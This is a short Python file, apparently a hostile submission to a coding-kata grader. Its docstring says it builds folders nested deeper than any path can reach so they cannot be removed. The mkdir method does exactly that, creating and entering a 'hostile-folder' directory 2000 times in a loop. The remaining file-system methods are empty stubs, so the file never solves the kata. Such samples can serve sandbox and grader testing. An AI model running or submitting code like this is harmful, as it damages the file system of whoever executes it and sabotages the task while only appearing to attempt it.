"""makes folders in folders, deeper than any path may be long, so that nothing can remove them

Kata: triefs
Naive: breaks
Verdict: WRONG_ANSWER CRASHED
"""

import os


class FileSystem:
    def mkdir(self, path):
        for _ in range(2000):
            os.mkdir("hostile-folder")
            os.chdir("hostile-folder")

    def ls(self, path):
        return []

    def add_content(self, path, content):
        pass

    def read_content(self, path):
        return ""
